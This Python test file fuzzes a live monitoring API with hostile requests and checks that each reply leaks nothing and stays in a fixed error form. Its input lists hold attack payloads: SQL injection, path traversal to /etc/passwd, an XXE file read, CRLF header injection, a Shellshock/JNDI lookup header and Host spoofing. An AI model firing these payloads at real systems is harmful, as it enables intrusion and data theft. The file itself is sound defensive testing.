"""A hostile client on every route of a live API: it is refused in our form, and learns nothing.

Requests go out as bytes: a polite client library would mend paths and headers.
"""

from __future__ import annotations

import hashlib
import http.client
import itertools
import json
import re
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from api import create_app
from api.body import MAX_BYTES
from api.headers import path_of
from clustersight.settings.model import Settings
from tests.api.answers import LEAKS
from tests.api.live import alerted, live_config, provisioned
from tests.servers.api import BASE, ApiProcess
from tests.servers.embedded import EmbeddedServer

PASSWORD = "correct horse"
TOKEN = hashlib.sha256(PASSWORD.encode()).hexdigest()
STORED_PASSWORD = "hush-hush"
AUTHORIZED = {"Authorization": f"Bearer {TOKEN}"}
JSON = {"Content-Type": "application/json"}
# Of a worker (issue: Speed and memory).
MOST_MEMORY_BYTES = 150 * 1024 * 1024
# It would replace the workers, which is what it is for: tests/api/test_server.py.
RELOAD = "/-/reload"
UNKNOWN = {"cluster_id": "cl_000000000000", "rule_id": "ru_000000000000", "silence_id": "si_000000000000"}
UNKNOWN["alert_id"] = "al_000000000000"


@dataclass(frozen=True)
class Route:
    method: str
    path: str

    def __str__(self) -> str:
        return f"{self.method} {self.path}"


def routes() -> list[Route]:
    """Every operation that the application has."""
    return sorted(
        (
            Route(method, path_of(rule.rule))
            for rule in create_app(Settings(), environ={}).url_map.iter_rules()
            for method in (rule.methods or set()) - {"HEAD"}
            if rule.rule != RELOAD
        ),
        key=str,
    )


ROUTES = routes()
READING = [route for route in ROUTES if route.method == "GET"]
WRITING = [route for route in ROUTES if route.method in ("POST", "PUT")]
# Who needs no token, or not to be an API's answer.
OPEN = {f"{BASE}/health", "/-/healthy", "/-/ready"}
PAGES = {
    "/",
    "/metrics",
    f"{BASE}/docs",
    f"{BASE}/docs/start.js",
    f"{BASE}/docs/{{name}}",
    f"{BASE}/openapi.json",
}
DOCUMENTED = [route for route in ROUTES if route.path.startswith(BASE) and route.path not in PAGES]


@dataclass(frozen=True)
class Reply:
    asked: str
    status: int
    headers: http.client.HTTPMessage
    body: bytes

    @property
    def error(self) -> dict[str, Any]:
        return dict(json.loads(self.body)["error"])


@dataclass
class Target:
    """The API with something of everything in it; `ids` are those of what is there."""

    process: ApiProcess
    ids: dict[str, str]

    def send(
        self, method: str, path: str, body: bytes | None = None, headers: dict[str, str] | None = None
    ) -> Reply:
        """Exactly this, with the token unless `headers` say otherwise."""
        client = http.client.HTTPConnection("127.0.0.1", self.process.port, timeout=30)
        try:
            whole = AUTHORIZED | (headers if headers is not None else JSON if body is not None else {})
            client.putrequest(method, path, skip_accept_encoding=True, skip_host="Host" in whole)
            if body is not None:
                whole = {"Content-Length": str(len(body)), **whole}
            for name, value in whole.items():
                if value:
                    client.putheader(name, value.encode("latin-1"))
            client.endheaders(body)
            answer = client.getresponse()
            return Reply(f"{method} {path}"[:200], answer.status, answer.headers, answer.read())
        finally:
            client.close()

    def filled(self, path: str, ids: dict[str, str] | None = None) -> str:
        return path.format_map({**self.ids, "name": "swagger-ui.css", **(ids or {})})


@pytest.fixture(scope="module")
def target(embedded: EmbeddedServer, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Target]:
    folder = tmp_path_factory.mktemp("hostile")
    config = live_config(embedded, folder / "state")
    config["api"] = {"password": PASSWORD, "auth_failures_per_minute": 0}
    provisioned(config)
    alert_id = alerted(config)
    process = ApiProcess(folder / "api", config, options={"headers": AUTHORIZED})
    process.start()
    try:
        workers = process.workers()
        yield Target(process, {**made(process), "alert_id": alert_id})
        # Whatever was sent: no worker has gone or grown, and no fault of ours is in the log.
        assert process.workers() == workers
        assert all(resident_bytes(worker) < MOST_MEMORY_BYTES for worker in workers)
        assert "a request failed" not in process.logs()
        assert "Traceback" not in process.logs()
    finally:
        process.stop()


def resident_bytes(pid: str) -> int:
    return 1024 * int(re.findall(r"VmRSS:\s+(\d+) kB", Path(f"/proc/{pid}/status").read_text())[0])


def made(process: ApiProcess) -> dict[str, str]:
    """Something of everything that can be made."""
    bodies = {
        "cluster_id": ("/clusters", BODIES["/clusters"]),
        "rule_id": ("/alerts/rules", BODIES["/alerts/rules"]),
        "silence_id": ("/silences", BODIES["/silences"]),
    }
    return {
        name: str(process.post(path, json=body).json()["data"]["id"]) for name, (path, body) in bodies.items()
    }


# A good body of each route that takes one: hostile is one field of it at a time.
BODIES: dict[str, dict[str, Any]] = {
    "/clusters": {
        "host": "127.0.0.1", "port": 1, "protocol": "http", "name": "made", "password": STORED_PASSWORD,
        "username": "u", "secure": False, "verify": True, "ca_cert": None, "discover": False,
        "discover_hosts": ["127.0.0.1"], "logical_cluster": "c", "labels": {"a": "b"},
        "keeper_nodes": ["127.0.0.1:1"], "expected_readonly": ["a.b@c"],
    },
    "/alerts/rules": {
        "name": "made", "metric_key": "disk.usage_pct", "operator": ">", "threshold": 70.0,
        "severity": "warning", "match": {"disk": "a"}, "for_sec": 0, "keep_firing_for_sec": 0,
        "resolve_threshold": 60.0, "cooldown_sec": 60, "enabled": True, "cluster_ids": [], "summary": "",
        "description": "", "runbook_url": "https://example.org", "fix": "",
        "no_data": "keep", "raises": None, "inhibited_by": [], "group": "cluster", "labels": {"team": "a"},
        "sql": None, "run_on": "each", "interval_sec": 60,
    },
    "/silences": {
        "matchers": [{"label": "a", "op": "=", "value": "b"}], "starts_at": "2026-03-22T14:00:00Z",
        "ends_at": None, "duration_minutes": 10_000_000, "by": "me", "comment": "c",
    },
    "/alerts/{alert_id}/acknowledge": {"by": "me", "note": "n"},
    "/alerts/{alert_id}/snooze": {"duration_minutes": 5, "scope": "alert"},
    "/queries/explain": {"query_hash": "1", "kind": "plan"},
    "/settings": {
        "slack_webhook_url": "", "collection_interval_sec": 30, "tier1_enabled": True, "tier2_enabled": True,
        "retention_raw_days": 7, "retention_hourly_days": 30, "retention_daily_days": 365,
    },
}  # fmt: skip
BODIES["/clusters/test"] = BODIES["/clusters"]
BODIES["/clusters/{cluster_id}"] = {"name": "renamed", **BODIES["/clusters"]}
BODIES["/alerts/rules/{rule_id}"] = BODIES["/alerts/rules"]
BODIES["/silences"].pop("starts_at")
BODIES["/silences"]["duration_minutes"] = 60

WRONG: list[Any] = [
    None, True, -1, 0, 3.5, 1e308, 10**30, "", "x", "x" * 100_000, "'; DROP TABLE clusters; --", "\0",
    "\x1b[2J",
    "../../../etc/passwd", "{{7*7}}", "%s%n", "é" * 300, "\U0001f4a9", [], [None], [[]], {}, {"": ""},
    {"a": {"a": {}}},
    ["x"] * 2000, {str(n): "x" for n in range(2000)}, [{"label": "a", "op": "=~",
    "value": "(a+)+" * 50 + "["}],
]  # fmt: skip
RAW: dict[str, bytes] = {
    "nothing": b"",
    "no JSON": b"{",
    "deep arrays": b"[" * 200_000,
    "deep objects": b'{"a":' * 100_000 + b"1" + b"}" * 100_000,
    "deep in a field": b'{"match":' + b"[" * 5_000 + b"]" * 5_000 + b"}",
    "NaN": b'{"threshold": NaN, "port": NaN, "duration_minutes": NaN}',
    "infinity": b'{"threshold": -Infinity, "port": Infinity}',
    "beyond a double": b'{"threshold": 1e999, "port": -1e999, "duration_minutes": 1e999}',
    "many digits": b'{"threshold": ' + b"9" * 500_000 + b', "port": ' + b"9" * 500_000 + b"}",
    "many digits behind a point": b'{"threshold": 0.0' + b"9" * 500_000 + b', "port": 1.0}',
    "no UTF-8": b'{"name": "\xff\xfe\xc0\x80"}',
    "half a surrogate": rb'{"name": "\ud800", "host": "\udfff", "by": "\ud83d"}',
    "NUL": rb'{"name": "\u0000", "\u0000": 1}',
    "NUL as it is": b'{"name": "\0"}\0',
    "the same key": b'{"port": 1, "port": 2, "host": "a", "host": "b", "name": "c", "name": "d"}',
    "a thousand unknown keys": json.dumps({f"key{n}": n for n in range(1000)}).encode(),
    "names of Python": b'{"__class__": {"__init__": 1}, "__proto__": {}, "constructor": 1}',
    "not an object": b'["host", "port"]',
    "a mebibyte": b'{"name": "' + b"a" * (MAX_BYTES - 12) + b'"}',
    "more than a mebibyte": b'{"name": "' + b"a" * MAX_BYTES + b'"}',
    "XML": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
}


def harmless(reply: Reply, *statuses: int) -> None:
    """In our form, nothing told, and no fault of ours; `statuses` are those that are right."""
    if reply.status >= 400:  # a good answer may speak of disks, and of queries
        assert not LEAKS.search(reply.body.decode()), reply.body[:500]
    for secret in (PASSWORD, TOKEN, STORED_PASSWORD):
        assert secret.encode() not in reply.body
    if reply.status != 304:
        assert list(json.loads(reply.body)) == ["data", "meta", "error"]
    assert reply.status in statuses or (not statuses and reply.status < 500) or is_down(reply), reply
    assert reply.headers["Cache-Control"] == "no-store"
    assert reply.headers["X-Content-Type-Options"] == "nosniff"


def is_down(reply: Reply) -> bool:
    """Of a cluster that the test made: nobody listens there."""
    return reply.status == 503 and reply.error["code"] == "clickhouse_unreachable"


@pytest.mark.parametrize("route", ROUTES, ids=str)
def test_bodies(target: Target, route: Route) -> None:
    path = target.filled(route.path, UNKNOWN if route.method == "DELETE" else None)
    for name, raw in RAW.items():
        reply = target.send(route.method, path, raw, JSON)

        if len(raw) > MAX_BYTES:
            harmless(reply, 413)
        elif route in WRITING and raw:
            harmless(reply, 404, 422)
        elif route.path not in PAGES or reply.status != 200:
            harmless(reply)
        assert reply.status != 400, name  # by gunicorn, which would not have read it


@pytest.mark.parametrize("route", [r for r in WRITING if r.path.removeprefix(BASE) in BODIES], ids=str)
def test_wrong_types_in_each_field(target: Target, route: Route) -> None:
    good = BODIES[route.path.removeprefix(BASE)]
    path = target.filled(route.path)
    for field, value in itertools.product(good, WRONG):
        body = json.dumps({**good, field: value}).encode()

        reply = target.send(route.method, path, body)

        harmless(reply)
        if reply.status == 422 and (detail := reply.error["detail"]):
            wrong = [one for one in detail if not one["path"] or not 0 < len(one["message"]) < 10_000]
            assert not wrong, (field, str(value)[:100], str(wrong)[:500])


def test_every_body_has_its_fields_tried(target: Target) -> None:
    """Against the document: a new field, or a new route with a body, must come into BODIES."""
    document = json.loads(target.send("GET", f"{BASE}/openapi.json").body)
    for path, methods in document["paths"].items():
        for method, operation in methods.items():
            if "requestBody" in operation:
                name = operation["requestBody"]["content"]["application/json"]["schema"]["$ref"].rpartition(
                    "/"
                )[2]
                known = set(document["components"]["schemas"][name]["properties"])
                tried = set(BODIES[path.removeprefix(BASE)])
                assert known - tried <= {"starts_at"}, (method, path)


VALUES = [
    "", "-1", "NaN", "Infinity", "1e9", "9" * 300, "1_0", "%00", "%ff%fe", "%ED%A0%80", "'%20OR%201=1--",
    "..%2f..%2f", "%0d%0aSet-Cookie:a=b", "null", "true", "[]", "a" * 3000, "cl_000000000000",
    "ru_000000000000",
    "cl_000000000000%0a", "%F0%9F%92%A9",
]  # fmt: skip


@pytest.mark.parametrize("route", DOCUMENTED, ids=str)
def test_parameters(target: Target, route: Route) -> None:
    document = json.loads(target.send("GET", f"{BASE}/openapi.json").body)
    operation = document["paths"][route.path][route.method.lower()]
    known = [one["name"] for one in operation.get("parameters", ()) if one["in"] == "query"]
    path = target.filled(route.path, UNKNOWN if route.method == "DELETE" else None)
    body = b"{}" if route in WRITING else None

    for unknown in ("nope=1", "limit[]=1", "%00=1", "=", "__class__=1", "Cluster_Id=x", "a" * 3000 + "=1"):
        harmless(target.send(route.method, f"{path}?{unknown}", body), 422)
    for name in known:
        harmless(target.send(route.method, f"{path}?{name}=1&{name}=2", body), 422)
        for value in VALUES:
            harmless(target.send(route.method, f"{path}?{name}={value}", body))
    harmless(target.send(route.method, f"{path}?{'a=1&' * 900}", body), 422)


IDS = [
    "cl_000000000000", "ru_000000000000", "al_000000000000", "si_000000000000", "zz_ffffffffffff",
    "CL_000000000000",
    "cl_00000000000g", "cl_0000000000000", "cl_", "0", "-1", "None", "%00", "cl_000000000000%00", "%2e%2e",
    "..", ".",
    "cl_000000000000%0a", "*", "'", "%27%20OR%201=1", "a" * 3000, "cl_000000000000;x=1", "%F0%9F%92%A9",
    "%ff",
]  # fmt: skip


@pytest.mark.parametrize("route", [r for r in DOCUMENTED if "{" in r.path], ids=str)
def test_ids_of_nothing_and_of_other_things(target: Target, route: Route) -> None:
    [name] = re.findall(r"\{(\w+)\}", route.path)
    others = [other for kind, other in target.ids.items() if kind != name]
    body = json.dumps(BODIES.get(route.path.removeprefix(BASE), {})).encode() if route in WRITING else None
    for wrong in (*IDS, *others):
        reply = target.send(route.method, target.filled(route.path, {name: wrong}), body)

        harmless(reply, 404, 405)  # 405: `.` and `..` may leave the path of a collection


@pytest.mark.parametrize("route", ROUTES, ids=str)
def test_tricks_with_paths(target: Target, route: Route) -> None:
    path = target.filled(route.path, UNKNOWN)
    head, _, last = path.rpartition("/")
    tricks = [
        path + "/", path + "//", "/" + path, f"{head}//{last}", f"{head}/./{last}", f"{head}/x/../{last}",
        f"{head}/%2e%2e/{last}", f"{head}%2f{last}x", path + "%00", path + ";jsessionid=1", path + "%20",
        path + ".json",
        path + "%2f..%2f..%2fetc%2fpasswd", path + "/../../../../etc/passwd", path.upper(), path + "\\..\\x",
        path.replace("/v1", "/v1/../v1"), path + "%ef%bc%8f", "/.." + path, path + "%23",
    ]  # fmt: skip
    for trick in tricks:
        if trick == path or route.path == "/":
            continue
        for headers in (None, {"Authorization": ""}):
            reply = target.send(route.method, trick, None, headers)

            harmless(reply, 400, 401, 404, 405)


@pytest.mark.parametrize("route", ROUTES, ids=str)
def test_other_methods(target: Target, route: Route) -> None:
    path = target.filled(route.path, UNKNOWN)
    mine = {other.method for other in ROUTES if other.path == route.path} | {"HEAD"}
    for method in {"GET", "POST", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "PROPFIND", "CONNECT"} - mine:
        reply = target.send(method, path, b"{}" if method in ("POST", "PUT", "PATCH") else None)

        harmless(reply, 405)
        assert set(reply.headers["Allow"].split(", ")) <= mine
    for method in ("get", "Get", "FROBNICATE" * 3):
        harmless(target.send(method, path), 400, 405)


TYPES = (
    "text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/xml",
    "application/json; charset=utf-16", "application/json; charset=x", "json", ";", "application/jsonp", "",
)  # fmt: skip


@pytest.mark.parametrize("route", WRITING, ids=str)
def test_other_types_of_content(target: Target, route: Route) -> None:
    body = json.dumps(BODIES.get(route.path.removeprefix(BASE), {})).encode()
    for kind in TYPES:
        reply = target.send(route.method, target.filled(route.path), body, {"Content-Type": kind})

        harmless(reply, 415)


HEADERS: list[dict[str, str]] = [
    {"X-HTTP-Method-Override": "DELETE", "X-Method-Override": "DELETE", "X-HTTP-Method": "DELETE"},
    {
        "X-Original-URL": "/metrics",
        "X-Rewrite-URL": "/metrics",
        "X-Forwarded-Prefix": "/x",
        "SCRIPT_NAME": "/x",
    },
    {
        "X-Forwarded-For": "127.0.0.1",
        "X-Forwarded-Host": "evil",
        "X-Forwarded-Proto": "https",
        "Forwarded": "for=1",
    },
    {"X-Request-ID": "a\tb<script>"},
    {"X-Request-ID": "é" * 1000},
    {"Accept": "text/html, application/xml;q=0.9", "Accept-Language": "x" * 1000},
    {"Accept-Encoding": "gzip;q=nan, *;q=-1"},
    {"If-None-Match": "*"},
    {"If-None-Match": '"' + "a" * 4000 + '", W/"'},
    {"If-Modified-Since": "yesterday", "If-Match": '"x"', "If-Range": '"x"', "Range": "bytes=0-1,5-,-9"},
    {"Cookie": "session=" + "a" * 4000, "Origin": "null", "Referer": "javascript:alert(1)"},
    {"User-Agent": "() { :;}; /bin/true ${jndi:ldap://x}"},
    {"Expect": "x"},
    {"Connection": "close, Authorization", "Upgrade": "websocket", "Proxy-Authorization": "Basic eDp4"},
    {"Host": "evil.example", "X-Host": "evil.example"},
]


@pytest.mark.parametrize("headers", HEADERS, ids=[" ".join(one)[:40] for one in HEADERS])
def test_tricks_with_headers(target: Target, headers: dict[str, str]) -> None:
    for route in ROUTES:
        if route.path in PAGES:
            continue
        path = target.filled(route.path, UNKNOWN)
        reply = target.send(route.method, path, b"{}" if route in WRITING else None, JSON | headers)

        if reply.status == 417:
            continue
        harmless(reply)
        if route.method == "GET" and "{" not in route.path and "If-None-Match" not in headers:
            assert reply.status == 200 or is_down(reply), reply
        assert "evil" not in str(reply.headers)
        assert re.fullmatch(r"[A-Za-z0-9._:/+=@-]{1,128}", reply.headers["X-Request-ID"])
    # Nothing was deleted.
    for name, collection in (("cluster_id", "clusters"), ("rule_id", "alerts/rules")):
        assert target.ids[name].encode() in target.send("GET", f"{BASE}/{collection}").body


TOKENS = [
    "", "Bearer", "Bearer ", "Bearer x", f"Bearer {TOKEN[:-1]}", f"Bearer {TOKEN.upper()}",
    f"Bearer {TOKEN}0",
    f"Token {TOKEN}", f"Bearer{TOKEN}", f"Bearer {PASSWORD}", TOKEN, f"Bearer {TOKEN} {TOKEN}",
    f"Bearer,{TOKEN}",
    "Bearer \xff\xfe", "Basic", "Basic Og==", "Basic !!!", "Bearer " + "a" * 7000, "Negotiate YII=",
    "Digest a",
]  # fmt: skip


@pytest.mark.parametrize("route", [r for r in ROUTES if r.path not in OPEN], ids=str)
def test_wrong_tokens(target: Target, route: Route) -> None:
    path = target.filled(route.path)
    for token in TOKENS:
        reply = target.send(route.method, path, None, {"Authorization": token})

        harmless(reply, 401)
        assert reply.error["code"] == "unauthorized"
        assert reply.headers["WWW-Authenticate"].startswith("Bearer")


def test_a_hundred_wrong_tokens(embedded: EmbeddedServer, tmp_path: Path) -> None:
    config = live_config(embedded, tmp_path / "state") | {"api": {"password": PASSWORD}}
    provisioned(config)
    process = ApiProcess(tmp_path / "api", config, options={"headers": AUTHORIZED})
    process.start()
    try:
        target = Target(process, UNKNOWN)
        behind = [route for route in ROUTES if route.path not in OPEN]
        asked = itertools.islice(itertools.cycle(behind), 100)
        statuses = []
        for number, route in enumerate(asked):
            wrong = {"Authorization": f"Bearer {number:064x}"}
            reply = target.send(route.method, target.filled(route.path), None, wrong)
            harmless(reply, 401, 429)
            statuses.append(reply.status)
            if reply.status == 429:
                assert 0 < int(reply.headers["Retry-After"]) <= 60

        assert statuses == [401] * 10 + [429] * 90
        assert target.send("GET", f"{BASE}/clusters").status == 200
        assert target.send("GET", f"{BASE}/clusters", None, {"Authorization": ""}).status == 401
        assert target.send("GET", f"{BASE}/health", None, {"Authorization": "Bearer x"}).status == 200
    finally:
        process.stop()
